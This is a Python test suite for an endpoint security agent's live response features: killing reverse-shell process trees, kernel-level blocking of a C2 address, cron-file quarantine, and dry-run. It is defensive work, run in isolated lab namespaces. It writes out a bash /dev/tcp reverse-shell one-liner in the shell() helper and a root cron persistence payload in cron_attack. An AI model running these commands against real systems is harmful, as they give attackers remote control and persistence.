"""Response, live (agent.response): kill a reverse shell's tree, block its C2 address in the kernel, quarantine
the cron file it wrote, and dry-run, against real processes, sockets and files.

Safety: every attack runs in the lab's victim namespace against the attacker namespace. Blocks go only to
addresses this test adds to the lab (NetLab.add_attacker_addresses: random documentation addresses outside the
lab's own subnet, so other sessions' labs are never affected) with a short TTL, and the block program is
detached in teardown. The response stage sees only alerts of the test's own process tree (the sensor is
host-wide). Cron files are written only inside a private mount namespace over a tmpfs-backed overlay of /etc.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from agent.config import ResponseConfig, parse_config
from agent.response import Responder, open_responder
from tests.helpers.alerts import alert_pids, summary, tree_pids, wait_alerts
from tests.helpers.polling import wait_until
from tests.live.supplychain import in_private_overlays

ROOT = Path(__file__).resolve().parents[2]
CHAINWATCH = [sys.executable, "-m", "agent"]
WAIT = 30.0  # bound on waiting for the sensor's alerts (polling; never asserted as a time)


# ------------------------------------------------------------------------------------------ helpers


def write_config(tmp_path: Path, **response: Any) -> tuple[ResponseConfig, Path]:
    """A config file whose [response] table has these keys, with the socket and quarantine in tmp_path."""
    values = {
        "enabled": True,
        "min_severity": "medium",
        "block_ttl_s": 30.0,
        "control_socket": str(tmp_path / "run" / "control.sock"),
        "quarantine_dir": str(tmp_path / "quarantine"),
        **response,
    }

    def toml(v: Any) -> str:
        if isinstance(v, bool):
            return "true" if v else "false"
        if isinstance(v, list):
            return "[" + ", ".join(toml(x) for x in v) + "]"
        return repr(v) if isinstance(v, float) else f'"{v}"'

    path = tmp_path / "chainwatch.toml"
    path.write_text("[response]\n" + "".join(f"{k} = {toml(v)}\n" for k, v in values.items()))
    return parse_config(path.read_text(), str(path)).response, path


class Stage:
    """A response stage on the session's sensor, acting only on alerts of the tree rooted at ``root``."""

    def __init__(self, responder: Responder) -> None:
        self.responder = responder
        self.root: int | None = None  # set once the attack is started; until then nothing is acted on


@pytest.fixture
def respond(sensorlab: Any) -> Iterator[Callable[[ResponseConfig], Stage]]:
    """Install a response stage (loaded before the attack starts: compiling the block program takes seconds);
    removed and closed afterwards."""
    made: list[Responder] = []
    errors: list[BaseException] = []

    def install(config: ResponseConfig) -> Stage:
        responder = open_responder(config, sensorlab.pipeline.table)
        assert responder is not None
        made.append(responder)
        stage = Stage(responder)

        def only_ours(alert: dict[str, Any]) -> dict[str, Any]:
            if stage.root is None or stage.root not in alert_pids(alert):
                return alert  # another test's (or session's) alert: never acted on
            try:
                return responder(alert)
            except BaseException as exc:  # the poll thread must survive; the test reports it
                errors.append(exc)
                return alert

        sensorlab.respond = only_ours
        return stage

    try:
        yield install
    finally:
        sensorlab.respond = None
        for responder in made:
            responder.close()
    assert not errors, errors


def tree_alerts(
    sensorlab: Any, since: int, root: int, done: Callable[[list[dict[str, Any]]], bool]
) -> list[dict[str, Any]]:
    """Our tree's alerts past ``since``, polled until ``done`` or WAIT, then a second more for late lines."""

    def ours(alerts: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [a for a in alerts if root in alert_pids(a)]

    return wait_alerts(sensorlab, since, ours, done, timeout=WAIT)


def responses(alerts: list[dict[str, Any]], kind: str | None = None) -> list[dict[str, str]]:
    return [r for a in alerts for r in a["chainwatch"]["response"] if kind is None or r["action"] == kind]


def wait_file(path: Path) -> str:
    """The file's text once it has some (or "" after WAIT)."""
    return wait_until(lambda: path.read_text().strip() if path.exists() else "", timeout=WAIT, interval=0.1)


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", "rb") as fh:
            return fh.read().rsplit(b")", 1)[1].split()[0] not in (b"Z", b"X")
    except OSError:
        return False


def shell(host: str, port: int) -> str:
    """The bash /dev/tcp reverse shell, bounded: timeout(1) exits 124 if the shell is still there after 20 s and
    137 if it was SIGKILLed."""
    return f"timeout 20 bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'"


# ------------------------------------------------------------------------------------------- tests


def test_kill_takes_the_reverse_shell_tree_and_nothing_else(sensorlab, netlab, respond, tmp_path) -> None:
    """The reverse shell (started under timeout(1)) is SIGKILLed; a sibling the same script started and the
    script itself survive."""
    port = netlab.port()
    listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\n", duration=25)
    sibling_file, rc_file = tmp_path / "sibling.pid", tmp_path / "rc"
    script = (
        f"sleep 60 & echo $! > {sibling_file}; sleep 0.5; {shell(netlab.attacker_ip4, port)}; "
        f"echo $? > {rc_file}; sleep 30"
    )
    stage = respond(write_config(tmp_path, actions=["kill"])[0])
    mark = sensorlab.mark()
    amark = sensorlab.alert_mark()
    wrapper = netlab.spawn(
        netlab.victim_ns, ["bash", "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    stage.root = wrapper.pid

    rc = wait_file(rc_file)
    listener.wait(timeout=30)
    assert listener.peers, "fixture: the reverse shell never connected"
    alerts = tree_alerts(sensorlab, amark, wrapper.pid, lambda sel: bool(responses(sel, "kill")))
    kills = responses(alerts, "kill")
    assert kills and all(k["result"] == "done" for k in kills), summary(alerts) + f"\n{kills}"
    assert rc == "137", f"timeout(1) should report its child SIGKILLed (137), got {rc!r}; responses {kills}"

    sibling = int(sibling_file.read_text())
    assert alive(sibling), "the sibling sleep was killed"
    assert alive(wrapper.pid), "the script that started the shell was killed"
    tree = tree_pids(sensorlab.select(lambda e: True, since=mark), wrapper.pid)
    killed = {int(k["target"].split()[1]) for k in kills}
    assert killed <= tree - {wrapper.pid, sibling}, f"killed {killed}, tree {tree}"


def test_block_refuses_the_c2_address_until_unblocked(sensorlab, netlab, respond, tmp_path) -> None:
    """After a reverse shell to X, a new connect to X fails (EPERM, in the kernel) while Y still works;
    `chainwatch response unblock X` restores it; closing the responder detaches the program."""
    blocked, other = netlab.add_attacker_addresses(2)
    config, config_file = write_config(tmp_path, actions=["block"])
    port = netlab.port()
    listener = netlab.listen_tcp(
        netlab.attacker_ns, port, bind=blocked, payload=b"echo cw-$((6*7))\nexit\n", duration=15
    )
    stage = respond(config)
    responder = stage.responder
    amark = sensorlab.alert_mark()
    wrapper = netlab.spawn(
        netlab.victim_ns,
        ["bash", "-c", f"sleep 0.5; {shell(blocked, port)}; sleep 30"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    stage.root = wrapper.pid
    assert b"cw-42" in listener.wait(timeout=30), "fixture: the reverse shell did not run the attacker's command"
    alerts = tree_alerts(sensorlab, amark, wrapper.pid, lambda sel: bool(responses(sel, "block")))
    assert responses(alerts, "block") == [
        {
            "action": "block",
            "target": blocked,
            "result": "done",
            "reason": f"connects and UDP sends to {blocked} refused in the kernel for 30 s; "
            f"`chainwatch response unblock {blocked}` lifts it",
        }
    ], summary(alerts)

    def connect(address: str) -> subprocess.CompletedProcess:
        p = netlab.port()
        netlab.listen_tcp(netlab.attacker_ns, p, bind=address, duration=10)
        return netlab.connect_tcp(netlab.victim_ns, address, p, b"x", timeout=3)

    refused = connect(blocked)
    assert refused.returncode == 1 and b"EPERM" in refused.stderr, refused
    assert connect(other).returncode == 0, "another destination must still work"
    udp = netlab.send_udp(netlab.victim_ns, blocked, netlab.port(), b"x", timeout=3)
    assert udp.returncode == 1 and b"EPERM" in udp.stderr, udp

    listing = subprocess.run(
        [*CHAINWATCH, "response", "list", "--config", str(config_file)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert blocked in listing.stdout and listing.returncode == 0, listing
    done = subprocess.run(
        [*CHAINWATCH, "response", "unblock", blocked, "--config", str(config_file)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode == 0 and f"unblocked {blocked}" in done.stdout, done
    assert connect(blocked).returncode == 0, "unblock must restore connects"

    # Teardown detaches: block again, close, and the address is reachable.
    assert responder.blocker is not None
    responder.blocker.block(blocked, 0, 30)
    assert connect(blocked).returncode == 1
    responder.close()
    assert connect(blocked).returncode == 0, "the block program must be detached when the responder closes"


def test_block_ipv6_and_the_kernel_enforces_the_ttl(netlab) -> None:
    """The block program itself: an IPv6 address is refused while another works, and an entry stops blocking
    at its expiry in the kernel, before the agent's own expiry tick removes it."""
    from agent.probes.block import Blocker

    blocked, other = netlab.add_attacker_addresses(2, family=6)
    (short,) = netlab.add_attacker_addresses(1)

    def connect(address: str) -> subprocess.CompletedProcess:
        p = netlab.port()
        netlab.listen_tcp(netlab.attacker_ns, p, family=6 if ":" in address else 4, bind=address, duration=10)
        return netlab.connect_tcp(netlab.victim_ns, address, p, b"x", timeout=3)

    blocker = Blocker()
    try:
        blocker.block(blocked, 0, 30)
        blocker.block(short, 0, 2)
        refused = connect(blocked)
        assert refused.returncode == 1 and b"EPERM" in refused.stderr, refused
        assert connect(other).returncode == 0
        assert connect(short).returncode == 1
        time.sleep(2.5)
        assert [e.address for e in blocker.entries()] == sorted([blocked, short])  # not yet removed...
        assert connect(short).returncode == 0  # ...but no longer enforced
        assert [e.address for e in blocker.expire()] == [short]
        assert blocker.unblock(blocked) == 1 and connect(blocked).returncode == 0
    finally:
        blocker.close()


def cron_attack(
    netlab: Any, tmp_path: Path, host: str, port: int, name: str, marker: str
) -> tuple[Any, subprocess.Popen, Path]:
    """A reverse shell in a private mount namespace (overlay on /etc) whose attacker writes /etc/cron.d/<name>;
    the namespace's root shell then waits for ``release`` (bounded) so the test can look inside."""
    payload = (
        f"mkdir -p /etc/cron.d; echo '* * * * * root /bin/true {marker}' > /etc/cron.d/{name}; echo cw-$((6*7)); exit\n"
    ).encode()
    listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=payload, duration=20)
    release = tmp_path / "release"
    inner = f"sleep 0.5; {shell(host, port)}; for i in $(seq 600); do [ -e {release} ] && break; sleep 0.1; done"
    argv = in_private_overlays(["bash", "-c", inner], ["/etc"], tmp_path / "scratch", tmp_path / "evidence")
    holder = netlab.spawn(netlab.victim_ns, argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    return listener, holder, release


def test_quarantine_moves_the_cron_file_and_restore_puts_it_back(sensorlab, netlab, respond, tmp_path) -> None:
    """The cron file a reverse shell wrote (in its private mount namespace) is moved to the 0700 quarantine;
    `chainwatch response restore ID`, run in that namespace, puts it back with its mode."""
    name, marker = f"cw-q-{uuid.uuid4().hex[:8]}", f"cw-marker-{uuid.uuid4().hex[:8]}"
    cron = f"/etc/cron.d/{name}"
    config, config_file = write_config(tmp_path, actions=["quarantine"])
    port = netlab.port()
    stage = respond(config)
    amark = sensorlab.alert_mark()
    listener, holder, release = cron_attack(netlab, tmp_path, netlab.attacker_ip4, port, name, marker)
    stage.root = holder.pid
    try:
        assert b"cw-42" in listener.wait(timeout=30), "fixture: the reverse shell did not run the attacker's command"
        alerts = tree_alerts(sensorlab, amark, holder.pid, lambda sel: bool(responses(sel, "quarantine")))
        quarantined = responses(alerts, "quarantine")
        assert [(q["target"], q["result"]) for q in quarantined] == [(cron, "done")], summary(alerts)
        assert not Path(cron).exists(), "the real /etc/cron.d was written!"
        view = Path(f"/proc/{holder.pid}/root{cron}")
        assert not view.exists(), "the cron file is still in the namespace"
        qdir = Path(config.quarantine_dir)
        assert os.stat(qdir).st_mode & 0o777 == 0o700
        (entry,) = [p for p in qdir.iterdir()]
        assert marker in (entry / "content").read_text()
        assert entry.name in quarantined[0]["reason"]

        restore = subprocess.run(
            [
                "nsenter",
                f"--mount=/proc/{holder.pid}/ns/mnt",
                "--",
                *CHAINWATCH,
                "response",
                "restore",
                entry.name,
                "--config",
                str(config_file),
            ],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=30,
        )
        assert restore.returncode == 0, restore
        assert marker in view.read_text(), "restore did not put the file back in the namespace"
        assert not entry.exists()
    finally:
        release.touch()
        holder.wait(timeout=30)
    assert marker in (tmp_path / "evidence" / "etc" / "cron.d" / name).read_text()
    assert not Path(cron).exists()


def test_dry_run_changes_nothing(sensorlab, netlab, respond, tmp_path) -> None:
    """With every action on and dry_run, each is recorded as dry_run and nothing happens: the shell finishes
    on its own, the cron file stays, the address stays reachable, nothing is quarantined."""
    (address,) = netlab.add_attacker_addresses(1)
    name, marker = f"cw-dry-{uuid.uuid4().hex[:8]}", f"cw-marker-{uuid.uuid4().hex[:8]}"
    cron = f"/etc/cron.d/{name}"
    config, _ = write_config(tmp_path, dry_run=True)
    assert config.actions == ["kill", "block", "quarantine"]
    port = netlab.port()
    stage = respond(config)
    assert stage.responder.blocker is None, "dry-run must not load the block program"
    amark = sensorlab.alert_mark()
    listener, holder, release = cron_attack(netlab, tmp_path, address, port, name, marker)
    stage.root = holder.pid
    try:
        assert b"cw-42" in listener.wait(timeout=30), "fixture: the reverse shell did not run the attacker's command"

        def all_three(sel: list[dict[str, Any]]) -> bool:
            return {r["action"] for r in responses(sel)} >= {"kill", "block", "quarantine"}

        alerts = tree_alerts(sensorlab, amark, holder.pid, all_three)
        got = responses(alerts)
        assert all_three(alerts), summary(alerts) + f"\n{got}"
        assert {r["result"] for r in got} == {"dry_run"}, got
        view = Path(f"/proc/{holder.pid}/root{cron}")
        assert marker in view.read_text(), "dry-run removed the cron file"
        p = netlab.port()
        netlab.listen_tcp(netlab.attacker_ns, p, bind=address, duration=10)
        assert netlab.connect_tcp(netlab.victim_ns, address, p, b"x", timeout=3).returncode == 0
        assert not Path(config.quarantine_dir).exists() or not any(Path(config.quarantine_dir).iterdir())
    finally:
        release.touch()
        holder.wait(timeout=30)
    stderr = holder.stderr.read().decode(errors="replace") if holder.stderr else ""
    assert holder.returncode == 0, f"the attack script must finish normally in dry-run: {stderr}"


def test_response_config_is_checked_at_startup(tmp_path) -> None:
    """`chainwatch run` with a bad [response] table exits 2 with one sentence naming the key."""
    bad = tmp_path / "bad.toml"
    bad.write_text("[response]\nenabled = true\n")
    done = subprocess.run(
        [*CHAINWATCH, "run", "--config", str(bad)], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 2, done
    assert "response.enabled is true but neither response.min_severity nor response.rules" in done.stderr


def test_daemon_loads_blocking_serves_the_socket_and_cleans_up(tmp_path) -> None:
    """`chainwatch run` with blocking on: response_ready says so, `response list` reaches it through the control
    socket, and SIGINT exits 0 and removes the socket. Every network is protected, so this agent (which sees
    the whole host) can never block anything, whatever other sessions run meanwhile."""
    config, config_file = write_config(
        tmp_path, actions=["block"], min_severity="critical", protected_networks=["0.0.0.0/0", "::/0"]
    )
    log = tmp_path / "run.log"
    with log.open("w") as err:
        agent = subprocess.Popen(
            [*CHAINWATCH, "run", "--config", str(config_file), "--alerts", str(tmp_path / "alerts.jsonl")],
            cwd=ROOT,
            stderr=err,
            stdout=subprocess.DEVNULL,
        )
    try:
        wait_until(lambda: '"sensor_ready"' in log.read_text() or agent.poll() is not None, timeout=120, interval=0.2)
        text = log.read_text()
        assert '"sensor_ready"' in text, text
        ready = [json.loads(line) for line in text.splitlines() if '"response_ready"' in line]
        assert ready and ready[0]["blocking"] is True and ready[0]["dry_run"] is False, text
        listing = subprocess.run(
            [*CHAINWATCH, "response", "list", "--config", str(config_file)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=30,
        )
        reply = json.loads(listing.stdout)
        assert reply["agent"] == {"ok": True, "blocks": [], "dry_run": False, "blocking": True}, listing
    finally:
        agent.send_signal(signal.SIGINT)
        rc = agent.wait(timeout=60)
    assert rc == 0, log.read_text()
    assert not os.path.exists(config.control_socket)
